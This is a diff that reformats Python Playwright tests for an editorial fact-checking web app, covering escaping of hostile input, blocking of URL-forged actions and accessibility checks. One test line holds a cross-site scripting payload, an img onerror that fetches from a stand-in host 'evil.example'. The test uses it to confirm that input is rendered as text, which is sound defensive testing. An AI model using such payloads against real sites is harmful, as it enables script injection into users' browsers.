@@ -135,7 +135,9 @@ def test_hostile_article_and_draft_text_execute_nothing(page, desk):
     payload = "<img src=x onerror=\"fetch('http://evil.example/q')\"> was it <script>alert('q')</script>?"
     page.get_by_label("Question", exact=True).fill(payload)
     submit(page, page.get_by_role("button", name="Add question"))
-    assert payload in page.locator('section[aria-labelledby="q-h"] article.draft').last.inner_text()  # shown as text, not markup
+    assert (
+        payload in page.locator('section[aria-labelledby="q-h"] article.draft').last.inner_text()
+    )  # shown as text, not markup
     page.locator("summary", has_text="Add your own source").click()
     page.get_by_label("Source", exact=True).fill("A link that runs script")
     page.get_by_label("Link (http or https)").evaluate("el => { el.type = 'text'; }")  # past the browser's own check
@@ -189,8 +191,10 @@ def test_a_reviewer_cannot_reach_editor_actions_by_url(page, desk):
     assert response.status == 403 and "may not export" in page.get_by_role("alert").inner_text()
     page.goto(f"/tickets/{ticket_id}")
     token = page.locator('input[name="csrf_token"]').first.input_value()
-    forged = page.request.post(f"/tickets/{ticket_id}/state", form={
-        "csrf_token": token, "to": "disputed", "version": "1", "rationale": "Forged through the URL."})
+    forged = page.request.post(
+        f"/tickets/{ticket_id}/state",
+        form={"csrf_token": token, "to": "disputed", "version": "1", "rationale": "Forged through the URL."},
+    )
     assert forged.status == 403
     with Session(desk.engine) as s:
         assert s.get(Ticket, ticket_id).state == "unverified"
@@ -202,8 +206,15 @@ def test_main_pages_have_no_serious_accessibility_violations(page, desk):
     log_in(page, desk.user("ella", "editor"))
     article_id = ingest(page, ARTICLE.replace("Marlow", "Penrith"), "Penrith cargo record")
     ticket_id = first_ticket_id(desk, article_id)
-    for path in ("/", "/dashboard", "/articles", "/articles/new", f"/articles/{article_id}",
-                 f"/tickets/{ticket_id}", "/exports"):
+    for path in (
+        "/",
+        "/dashboard",
+        "/articles",
+        "/articles/new",
+        f"/articles/{article_id}",
+        f"/tickets/{ticket_id}",
+        "/exports",
+    ):
         page.goto(path)
         problems[path] = axe_violations(page)
     assert {p: v for p, v in problems.items() if v} == {}
